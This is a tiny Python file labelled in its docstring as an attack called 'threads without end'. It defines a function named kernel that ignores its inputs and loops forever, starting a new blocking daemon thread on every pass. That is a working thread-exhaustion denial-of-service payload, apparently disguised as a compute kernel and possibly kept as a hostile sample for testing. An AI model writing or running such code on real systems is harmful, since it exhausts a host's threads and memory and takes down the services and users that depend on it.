"""Attack: threads without end."""

import threading


def kernel(x, w):
    while True:
        threading.Thread(target=threading.Event().wait, daemon=True).start()
